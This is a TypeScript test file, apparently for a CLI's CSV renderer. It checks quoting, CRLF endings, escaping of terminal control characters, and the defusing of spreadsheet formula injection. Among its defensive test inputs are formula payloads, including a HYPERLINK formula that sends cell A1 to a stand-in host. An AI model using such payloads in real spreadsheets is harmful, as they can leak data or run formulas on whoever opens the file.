import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { renderCsv } from "../../src/cli/csv.ts";

/** One cell of one column, as it is written. */
const written = (text: string): string => renderCsv(["name"], [[text]]).slice("name\r\n".length, -2);

/** Reads as RFC 4180 says, section 2. */
function read(csv: string): string[][] {
  const rows: string[][] = [[]];
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  for (let match = field.exec(csv); match !== null; match = field.exec(csv)) {
    rows.at(-1)?.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? "");
    if (match[3] === "\r\n") rows.push([]);
    if (field.lastIndex === csv.length) break;
  }
  assert.deepEqual(rows.pop(), []);
  return rows;
}

test("lines end with CRLF, also the last one, and a heading is there without rows", () => {
  assert.equal(renderCsv(["a", "b"], []), "a,b\r\n");
  assert.equal(renderCsv(["a", "b"], [["x", 1.5]]), "a,b\r\nx,1.5\r\n");
  assert.equal(
    renderCsv(["usd"], [[{ digits: "9007199254740993.000000001" }]]),
    "usd\r\n9007199254740993.000000001\r\n",
  );
});

test("separators and quotes stay inside their cell, whichever separator a spreadsheet is set to", () => {
  assert.equal(written('a,"b"'), '"a,""b"""');
  assert.equal(written("a;b"), '"a;b"');
  assert.equal(written("gpt-4o-mini"), "gpt-4o-mini");
  assert.equal(written("(none)"), "(none)");
});

test("a name is never a formula", () => {
  for (const name of ["=1+1", "+1", "-1", "@SUM(A1)", "\uff1d1", "\uff20a", " =1", "\u00a0=1"]) {
    assert.match(written(name), /^"?'/, name);
  }
  assert.match(written('=HYPERLINK("http://h.test?"&A1;"x")'), /^"'=HYPERLINK\(""/);
  assert.match(written("\t=1"), /^"?'\\t=1/);
  assert.match(written("\r=1"), /^"?'\\x0d=1/);
  assert.equal(written("a=1"), "a=1");
});

test("control characters and line breaks are visible, and cannot steer a terminal or begin a row", () => {
  assert.equal(written("a\u001b[31m\r\nb"), '"a\\x1b[31m\\x0d\\nb"');
});

test("whatever the names, a reader gets one row of as many cells, and none that a spreadsheet would run", () => {
  const text = fc.string({ unit: fc.constantFrom(..."=+-@,;\"'\r\n\t ab\u202e") });
  fc.assert(
    fc.property(fc.array(fc.tuple(text, text), { maxLength: 5 }), (rows) => {
      const found = read(renderCsv(["a", "b"], rows));
      assert.equal(found.length, rows.length + 1);
      for (const cell of found.flat()) assert.doesNotMatch(cell, /^\s*[=+\-@]|[\r\n]/);
      for (const row of found) assert.equal(row.length, 2);
    }),
  );
});
